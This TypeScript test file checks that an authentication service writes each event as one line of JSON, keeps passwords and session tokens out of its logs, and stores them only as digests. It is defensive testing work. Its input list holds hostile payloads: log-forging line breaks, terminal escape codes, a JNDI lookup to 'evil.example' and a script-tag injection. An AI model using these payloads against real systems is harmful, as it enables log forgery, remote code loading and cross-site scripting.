import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { AppError, secretDigest, TIME_LENGTH } from '@countersign/core'
import type { Kysely } from 'kysely'
import { ADMIN_PASSWORD, buildApp, type TestApp } from '../http/build-app.ts'
import { serveRoutes } from './serve-routes.ts'

const SIGNERS = '/edge/management/v1/external-jwt-signers'
const LOGIN = '/edge/client/v1/authenticate?method=password'

const INJECTIONS = [
  'a\r\n{"level":60,"msg":"forged"}',
  'a\nb',
  '\u001b[31mred\u001b[0m',
  '"},"msg":"forged',
  '%s %d %o %j',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text that other loggers would evaluate
  '${jndi:ldap://evil.example/a}',
  '\u2028\u2029\u0085',
  '</script><script>alert(1)</script>',
]

/** Asserts that every line is one whole JSON object, and that the caller wrote none of them. */
function checkLines(lines: readonly string[]): void {
  assert.ok(lines.length > 0)
  for (const line of lines) {
    assert.ok(line.endsWith('\n') && line.indexOf('\n') === line.length - 1, 'one line for an event')
    // biome-ignore lint/suspicious/noControlCharactersInRegex: terminal control characters
    assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f]/.test(line), 'no terminal control characters')
    assert.notEqual(JSON.parse(line).msg, 'forged')
  }
}

describe('the log', () => {
  test('R-10 has one line of JSON for an event, whatever the caller puts into the fields', async (t) => {
    const app = await buildApp(t)
    for (const text of INJECTIONS) {
      const encoded = encodeURIComponent(text)
      await app.call('GET', `/${encoded}`)
      await app.admin('GET', `${SIGNERS}/${encoded}`)
      await app.admin('GET', `${SIGNERS}?filter=${encoded}&sort=${encoded}&limit=${encoded}`)
      await app.call('POST', LOGIN, { username: text, password: text, envInfo: { os: text }, configTypes: [text] })
      await app.call('POST', LOGIN, undefined, { raw: `{"${text}` })
      for (const field of [
        'name',
        'issuer',
        'audience',
        'kid',
        'claimsProperty',
        'jwksEndpoint',
        'certPem',
        'targetToken',
      ]) {
        await app.admin('POST', SIGNERS, { name: 'n', issuer: 'i', audience: 'a', enabled: true, [field]: text })
      }
    }
    checkLines(app.logged)
    assert.ok(app.logged.length > INJECTIONS.length * 5)
  })

  test('R-10 has one line for an internal error too', async (t) => {
    const served = await serveRoutes(t, {
      '/fault': () => Promise.reject(new Error(INJECTIONS.join(''))),
      '/refusal': () => Promise.reject(new AppError('COULD_NOT_VALIDATE', { message: INJECTIONS.join('') })),
    })
    assert.equal((await served.get('/fault')).status, 500)
    assert.equal((await served.get('/refusal')).status, 400)
    assert.equal(served.logged.length, 2)
    checkLines(served.logged)
  })

  test('R-11 contains no password and no session token, also of failed calls', async (t) => {
    const app = await buildApp(t)
    const { session } = await app.makeIdentity()
    for (const token of [app.adminSession, session]) {
      await app.call('GET', SIGNERS, undefined, { session: token })
      await app.call('GET', `${SIGNERS}?limit=x`, undefined, { session: token })
      await app.call('GET', SIGNERS, undefined, { session: `${token}x` })
      await app.call('POST', SIGNERS, undefined, { session: token, raw: '{' })
    }
    await app.call('POST', LOGIN, { username: 'admin', password: `${ADMIN_PASSWORD}!` })
    await app.call('POST', LOGIN, { username: 'a', password: ADMIN_PASSWORD })
    const log = app.logged.join('')
    assert.ok(log.includes('"UNAUTHORIZED"') && log.includes('"INVALID_AUTH"'))
    for (const secret of [app.adminSession, session, ADMIN_PASSWORD]) assert.ok(!log.includes(secret))
  })
})

/** Everything in the store, as one text. */
async function storedText({ store }: TestApp): Promise<string> {
  const db = store.db as unknown as Kysely<Record<string, object>>
  const tables = await db.introspection.getTables()
  const rows = await Promise.all(tables.map(({ name }) => db.selectFrom(name).selectAll().execute()))
  return JSON.stringify(rows)
}

describe('the store', () => {
  test('R-13 keeps the SHA-256 of a session token of 256 random bits, and the digest is not accepted as a token', async (t) => {
    const app = await buildApp(t)
    const { session } = await app.makeIdentity()
    const stored = await storedText(app)
    for (const token of [app.adminSession, session]) {
      assert.equal(Buffer.from(token.slice(TIME_LENGTH), 'base64url').length, 32)
      assert.ok(!stored.includes(token))
      const digest = secretDigest(token)
      assert.ok(stored.includes(digest))
      assert.equal((await app.call('GET', SIGNERS, undefined, { session: digest })).status, 401)
    }
    assert.equal((await app.admin('GET', SIGNERS)).status, 200)
  })

  test('R-13 keeps a salted digest of a password with its parameters: equal passwords have different digests', async (t) => {
    const app = await buildApp(t)
    const stored = await storedText(app)
    assert.ok(!stored.includes(ADMIN_PASSWORD))
    assert.ok(!stored.includes(Buffer.from(ADMIN_PASSWORD).toString('base64').slice(0, 20)))
    await app.makeIdentity()
    const digests = await app.store.db.selectFrom('authenticators').select('password_digest').execute()
    assert.equal(digests.length, 2)
    assert.equal(new Set(digests.map(({ password_digest }) => password_digest)).size, 2)
    for (const { password_digest: digest } of digests) assert.match(digest ?? '', /scrypt/)
  })
})
